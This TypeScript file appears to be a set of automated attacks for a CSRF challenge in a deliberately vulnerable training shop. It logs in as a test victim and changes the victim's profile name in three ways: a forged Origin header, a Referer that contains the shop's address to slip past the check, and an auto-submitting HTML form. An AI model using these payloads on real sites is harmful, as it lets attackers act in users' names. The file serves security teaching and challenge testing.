import type { Attack, Tools } from '#lab'

/** A customer who is logged in, with the cookie. */
async function victim({ http, expect, settings }: Tools): Promise<string> {
  const login = await http.post('/rest/user/login', { email: `jim@${settings.domain}`, password: 'ncc-1701' })
  expect(login.status === 200, `the login answered with ${login.status}`)
  return `token=${login.json<{ authentication: { token: string } }>().authentication.token}`
}

/** Sends the form as the victim's browser does when another site submits it, and reads the profile afterwards. */
async function send(tools: Tools, headers: Record<string, string>): Promise<void> {
  const { http, expect } = tools
  const cookie = await victim(tools)
  const form = { cookie, 'content-type': 'application/x-www-form-urlencoded', ...headers }
  const sent = await http.post('/profile', 'username=CSRF', { headers: form })
  expect(sent.status === 302, `the form was answered with ${sent.status}`)
  const profile = await http.get('/profile', { headers: { cookie } })
  expect(profile.text.includes('value="CSRF"'), 'the name is unchanged')
}

export const attacks: Attack[] = [
  {
    challenge: 'csrfChallenge',
    name: 'a form on another site, sent in the visitor’s name',
    run: (tools) => send(tools, { origin: tools.settings.csrfSite }),
  },
  {
    challenge: 'csrfChallenge',
    name: 'the form on a page whose address contains the shop’s',
    run: (tools) => {
      const site = tools.settings.csrfSite
      return send(tools, { origin: site, referer: `${site}/?shop=localhost&port=80` })
    },
  },
  {
    challenge: 'csrfChallenge',
    name: 'a victim’s browser opens a page that sends itself',
    run: async ({ http, expect }) => {
      const html = `<form action="http://localhost:3000/profile" method="POST">
        <input name="username" value="CSRF"></form><script>document.forms[0].submit()</script>`
      const visit = await http.post('/training/other-site/visits', { html })
      expect(visit.status === 200, `the visit was answered with ${visit.status}`)
      const { name } = visit.json<{ name: { after: string } }>()
      expect(name.after === 'CSRF', 'the victim’s name is as it was')
    },
  },
]
